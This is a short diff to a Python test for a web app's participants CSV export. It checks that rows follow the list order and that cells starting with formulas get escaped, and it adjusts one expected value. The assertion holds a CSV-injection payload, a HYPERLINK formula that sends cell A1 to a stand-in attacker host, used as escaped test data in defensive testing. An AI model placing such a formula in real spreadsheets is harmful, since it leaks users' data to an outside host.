@@ -244,7 +244,7 @@ def test_participants_csv_follows_the_list_and_escapes_formulas(client, data, or
     rows = csv_rows(client.get(f"{BASE}/participants.csv").data)
     assert [r[1] for r in rows[1:]] == [n for _, names in dataset.LOP_ORDER for n in names]
     jane = rows[1]
-    assert (jane[3], jane[4]) == ("'\t=1+1", '\'=HYPERLINK("http://evil.example/?"&A1,"x")')
+    assert (jane[3], jane[4]) == ("'\t'=1+1", '\'=HYPERLINK("http://evil.example/?"&A1,"x")')
 
 
 @pytest.mark.parametrize("path", ["summary", "summary.pdf", "summary.csv", "summary.xlsx",
